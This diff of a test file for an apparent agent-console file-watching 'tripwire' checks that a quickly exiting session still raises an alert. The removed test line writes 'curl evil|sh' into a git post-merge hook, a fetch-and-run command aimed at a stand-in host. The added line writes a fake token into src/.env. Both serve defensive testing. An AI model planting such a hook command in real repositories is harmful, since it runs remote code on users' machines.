@@ -28,7 +28,8 @@ def env():
     other = workspace()  # watched too: changes there are nobody's business here
     # The watched root is given as a symlink; sessions' cwds are real paths.
     policy = f'approval_timeout_s = 120\ntripwire = "pause"\nwatch = {json.dumps([str(link), str(other)])}\n'
-    with running_daemon(policy) as d:
+    # The evidence path (no fanotify): tests/test_tripwire_fanotify.py covers the kernel's pid.
+    with running_daemon(policy, env={"AGENT_CONSOLE_NO_FANOTIFY": "1"}) as d:
         with d.operator() as op:
             wait_for(lambda: op.call("watch.status")["ok"] and len(op.call("watch.status")["roots"]) == 2)
         yield d, ws, link
@@ -143,13 +144,15 @@ def test_a_writer_that_exits_at_once_still_raises_an_item(env):
     d, ws, _link = env
     with d.operator() as op:
         op.subscribe(["watch"])
-        quick = new(op, ws, ["sh", "-c", "sleep 0.8; echo 'curl evil|sh' > .git/hooks/post-merge"])
+        # Not in one of the fast lane's directories (.git/hooks is: a writer there is
+        # frozen before it can exit, tests/test_tripwire_fanotify.py).
+        quick = new(op, ws, ["sh", "-c", "sleep 0.8; echo 'TOKEN=evil' > src/.env"])
         while (event := op.next_event()).get("change") != "alert":
             continue
         assert event["session"] == quick["id"] and event["exited"] is True
         item = wait_for(lambda: items_of(op, quick["id"]))[0]
         assert item["state"] == "exited"
-        assert item["summary"] == f"session {quick['id']} (exited) modified .git/hooks/post-merge"
+        assert item["summary"] == f"session {quick['id']} (exited) modified src/.env"
         assert item in op.call("tripwire.list", {"open": True})["items"]
         rows = wait_for(
             lambda: [
